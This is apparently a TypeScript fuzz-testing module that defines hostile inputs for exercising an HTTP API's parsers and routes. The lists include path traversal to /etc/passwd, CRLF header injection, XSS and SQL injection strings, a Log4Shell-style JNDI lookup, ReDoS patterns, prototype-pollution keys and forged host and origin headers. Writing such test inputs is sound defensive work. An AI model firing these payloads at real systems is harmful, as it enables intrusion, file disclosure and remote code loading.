/**
 * @module test/fuzz/values
 * The hostile values the fuzz sends: strings (empty, 100 kB, NUL, lone surrogates, bidi controls,
 * injection-looking text), wrong-typed JSON (numbers at the edges, null, arrays of 10 000 elements,
 * 1 000-level nesting, `__proto__`/`constructor` keys), raw path segments and query values
 * (percent-encoded `..` and `/`, `%00`, overlong UTF-8, malformed escapes) and header values.
 * None of them contains a stack-frame or file-path marker, so an echo is never taken for a leak.
 */

/** Levels of the deeply nested JSON bodies. */
export const DEPTH = 1_000;
/** Elements of the long JSON arrays. */
export const MANY = 10_000;
/** Longer than any field and than the default body limit (65 536 bytes). */
export const HUGE = 'h'.repeat(100_000);
/** Long, but a body carrying it still fits the default body limit. */
export const LONG = 'l'.repeat(30_000);

export const HOSTILE_STRINGS: readonly string[] = [
  '',
  ' ',
  HUGE,
  LONG,
  'a\u0000b',
  '\u0000',
  '\ud800',
  'x\udfffy\ud800',
  '\u202e\u200b\ufeff',
  'é€𝄞😀',
  '../../../etc/passwd',
  '%2e%2e%2f%2e%2e%2f',
  '\r\nSet-Cookie: injected=1',
  '<script>alert(1)</script>',
  "' OR '1'='1' --",
  '${jndi:ldap://example.invalid/a}',
  '*',
  '(a+)+$',
  'a'.repeat(64) + '!',
  '__proto__',
  'constructor',
  '-1',
  '1e309',
  'true',
  'null',
  '{"a":1}',
  'client:',
  'https://example.invalid/?x=1#y',
  'javascript:alert(1)',
];

function nested(depth: number, leaf: unknown, wrap: (inner: unknown) => unknown): unknown {
  let value = leaf;
  for (let i = 0; i < depth; i++) value = wrap(value);
  return value;
}

/** Values of any JSON type, for JSON fields and whole JSON bodies. */
export const HOSTILE_JSON: readonly unknown[] = [
  ...HOSTILE_STRINGS,
  0,
  -1,
  1.5,
  -0.0001,
  1e308,
  -1e308,
  2 ** 53 + 2,
  null,
  true,
  false,
  [],
  {},
  [null],
  [''],
  ['\u0000'],
  Array.from({ length: MANY }, (_, i) => `s${i}`),
  Array.from({ length: MANY }, () => ({})),
  nested(DEPTH, 'deep', (inner) => [inner]),
  nested(DEPTH, 'deep', (inner) => ({ a: inner })),
  JSON.parse('{"__proto__": {"polluted": "yes"}}'),
  { constructor: { prototype: { polluted: 'yes' } } },
  { toString: 'x', valueOf: 1, hasOwnProperty: null },
];

/** Raw (already percent-encoded) path segments. */
export const HOSTILE_SEGMENTS: readonly string[] = [
  '',
  '%00',
  'a%00b',
  '..',
  '%2e%2e',
  '%2E%2E%2F%2E%2E',
  '%2F',
  'a%2Fb',
  '%252F',
  '%5C',
  '%C0%AE%C0%AE',
  '%C0%AF',
  '%E0%80%AF',
  '%ED%A0%80',
  '%FF%FE',
  '%',
  '%zz',
  '%E2%80%AE',
  'x'.repeat(10_000),
  '__proto__',
  'constructor',
  '*',
  encodeURIComponent('é€😀'),
  '%20',
  ';a=b',
];

/** Raw (already percent-encoded) query values. */
export const HOSTILE_QUERY_VALUES: readonly string[] = [
  '',
  '%00',
  '%ED%A0%80',
  '%C0%AE',
  '%FF',
  '%',
  '%zz',
  'x'.repeat(100_000),
  '-1',
  '99999999999999999999999',
  '1.5',
  'NaN',
  'true',
  '%2e%2e%2f',
  encodeURIComponent('" or "1"="1'),
  encodeURIComponent('true and (false or'),
  encodeURIComponent('(((((((((((((((((((('),
  encodeURIComponent('a'.repeat(64) + '!'),
  encodeURIComponent('*'.repeat(2_000)),
  encodeURIComponent('<script>'),
  '__proto__',
  '+',
];

/** Header values Node accepts on the wire (no NUL nor line breaks), yet hostile. */
export const HOSTILE_HEADER_VALUES: readonly string[] = [
  '',
  ' ',
  'x'.repeat(8_000),
  '*',
  'W/"x"',
  '"unterminated',
  'resource=99.0',
  'resource=1.0, resource=2.0',
  'protocol=abc,resource=',
  '=?UTF-8?B?AAAA?=',
  '=?UTF-8?B?%%%?=',
  '=?ISO-8859-1?Q?caf=E9?=',
  '\u00e9\u00ff',
  'Bearer',
  'Basic !!!',
  '__proto__',
];

/** Headers any route may meet: content negotiation, a forged host, proxies, a cross-site origin, odd credentials and encodings. */
export const GENERIC_HEADERS: ReadonlyArray<[string, string]> = [
  ['accept', 'text/html'],
  ['accept', 'application/xml;q=1, */*;q=0'],
  ['accept-charset', 'utf-16'],
  ['host', 'evil.example'],
  ['host', `${'h'.repeat(300)}.example:99999`],
  ['x-forwarded-for', '1.2.3.4, garbage, ::1'],
  ['x-forwarded-proto', 'gopher'],
  ['x-forwarded-host', 'evil.example'],
  ['origin', 'https://evil.example'],
  ['sec-fetch-site', 'cross-site'],
  ['cookie', 'iPlanetDirectoryPro=forged; iPlanetDirectoryPro=other; =; a'],
  ['authorization', 'Bearer a.b.c'],
  ['authorization', `Basic ${Buffer.from('a:b:c').toString('base64')}`],
  ['authorization', `Basic ${Buffer.from('%zz:%00').toString('base64')}`],
  ['authorization', `Bearer ${'t'.repeat(8_000)}`],
  ['authorization', 'Bearer x, Basic y'],
  ['content-encoding', 'gzip'],
  ['content-encoding', 'br, identity'],
  ['x-http-method-override', 'DELETE'],
  ['x-request-id', 'r'.repeat(2_000)],
];

/** Real names a path parameter may name instead of the expected one: another user, an organization, other case. */
export const OTHER_NAMES: Readonly<Record<string, readonly string[]>> = {
  realm: ['DEMO', 'no-such-realm', 'demo '],
  user: ['bob', 'amAdmin', 'org:fuzz-org', 'ALICE', 'client:photoz-rs'],
};

/** Whole-request content types a body may be sent with (the documented one is added per route). */
export const CONTENT_TYPES: readonly string[] = [
  'text/plain',
  'application/json; charset=utf-16',
  'application/json; charset=iso-8859-1',
  'multipart/form-data; boundary=fuzz',
  'application/x-www-form-urlencoded',
  'application/json',
  'APPLICATION/JSON',
  'application/jsonx',
  'application/vnd.api+json',
  'application/xml',
  '*/*',
  'garbage',
];

/** A multipart body with one field, for the `multipart/form-data; boundary=fuzz` content type. */
export const MULTIPART_BODY = '--fuzz\r\nContent-Disposition: form-data; name="a"\r\n\r\nb\r\n--fuzz--\r\n';

/** JSON texts a parser may trip on. */
export const MALFORMED_JSON: readonly (string | Buffer)[] = [
  '',
  '{',
  '{"a":',
  '[1,]',
  "{'a':1}",
  'nul',
  '"\\ud800"',
  '"\\u0000"',
  '\ufeff{}',
  '{"a":1}{"b":2}',
  '1'.repeat(400),
  '[' .repeat(DEPTH) + ']'.repeat(DEPTH),
  '{"a":'.repeat(DEPTH) + '1' + '}'.repeat(DEPTH),
  Buffer.from([0x7b, 0x22, 0x61, 0x22, 0x3a, 0x22, 0xc0, 0xae, 0x22, 0x7d]),
  Buffer.from([0xff, 0xfe, 0x7b, 0x00, 0x7d, 0x00]),
];

/** Form bodies a parser may trip on. */
export const MALFORMED_FORMS: readonly string[] = [
  '',
  '&&&',
  '=',
  '=x',
  'a',
  '%',
  'a=%zz',
  'a=%E0%A4%A',
  'a=%C0%AE',
  'a=%FF',
  'a=%00',
  '__proto__=x&constructor%5Bprototype%5D%5Bpolluted%5D=yes',
  'a[]=1&a[]=2',
  'a[b][c]=1',
  `${'k'.repeat(2_000)}=v`,
  Array.from({ length: 2_000 }, (_, i) => `p${i}=v`).join('&'),
];
